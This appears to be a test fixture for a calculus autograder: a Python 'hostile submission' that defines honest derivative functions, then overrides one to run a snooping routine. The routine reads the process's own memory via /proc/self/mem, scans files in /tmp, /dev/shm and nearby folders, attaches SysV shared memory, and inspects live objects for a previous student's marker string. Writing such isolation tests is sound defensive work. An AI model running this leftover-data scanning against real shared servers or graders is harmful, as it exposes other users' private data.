"""Hostile submission (runtime): Looks for what the classmate graded just before it in the same server left behind: its own memory (all of it that can be read), files in every folder it can see, SysV shared memory.

An honest 01_derivative, then the attack (later definitions win)."""

import jax
import jax.numpy as jnp
import numpy as np
import sympy as sp


def symbolic_derivative():
    x = sp.Symbol("x")
    return sp.diff(x**3 - 2 * x**2 + 1, x)


def rate_of_change(f, x, dx=1e-6):
    x = np.asarray(x, dtype=float)
    return (f(x + dx) - f(x - dx)) / (2 * dx)


def autodiff_derivative(f):
    return jax.vmap(jax.grad(f))


# --- the attack ---
import ctypes
import gc
import os
import time

PREFIX = b"calcgrade-victim-"  # what the classmate graded just before us held and printed


def _memory(budget=5.0):
    """Our own memory, all of it that can be read: what the server (and anyone graded
    in it before us) may have left in the pages we were forked from."""
    hits = []
    with open("/proc/self/maps") as fh:
        regions = [line.split() for line in fh]
    fd = os.open("/proc/self/mem", os.O_RDONLY)
    deadline = time.monotonic() + budget
    try:
        for parts in regions:
            if not parts[1].startswith("r") or (len(parts) > 5 and parts[5].startswith("[v")):
                continue
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            while lo < hi and time.monotonic() < deadline:
                try:
                    data = os.pread(fd, min(hi - lo, 64 << 20), lo)
                except OSError:
                    break
                i = data.find(PREFIX)
                while i >= 0:
                    hits.append(data[i:i + 64])
                    i = data.find(PREFIX, i + 1)
                lo += 64 << 20
    finally:
        os.close(fd)
    return hits


def _left_behind():
    """What the previous student might have left outside their process: files in every
    folder we can see and SysV shared memory."""
    hits = []
    for folder in ("/dev", "/dev/shm", "/tmp", "/var/tmp", os.getcwd(), os.path.dirname(os.getcwd())):
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names:
            path = os.path.join(folder, name)
            try:
                if os.path.isfile(path):
                    with open(path, "rb") as fh:
                        data = fh.read(1 << 20)
                    if PREFIX in data:
                        hits.append(data[data.find(PREFIX):][:64])
            except OSError:
                pass
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    for shmid in range(0, 64):  # the first ids of this IPC namespace
        addr = libc.shmat(shmid, None, 0o10000)  # SHM_RDONLY
        if addr in (None, ctypes.c_void_p(-1).value):
            continue
        data = ctypes.string_at(addr, 4096)
        if PREFIX in data:
            hits.append(data[data.find(PREFIX):][:64])
        libc.shmdt(ctypes.c_void_p(addr))
    return hits


def _clean(b):
    return "".join(chr(c) for c in b if chr(c).isalnum() or chr(c) in "-_")


def _steal():
    hits = _memory() + _left_behind()
    needle = PREFIX.decode()
    for obj in gc.get_objects():  # strings the previous student's objects may have left
        if isinstance(obj, dict):
            hits += [v.encode()[:64] for v in list(obj.values())[:50]
                     if isinstance(v, str) and needle in v]
    for hit in sorted(set(_clean(h) for h in hits))[:20]:
        print("FOUND", hit)


def symbolic_derivative():
    _steal()
    return sp.Symbol("x") ** 2  # wrong: a classmate's leftovers are only looked for here
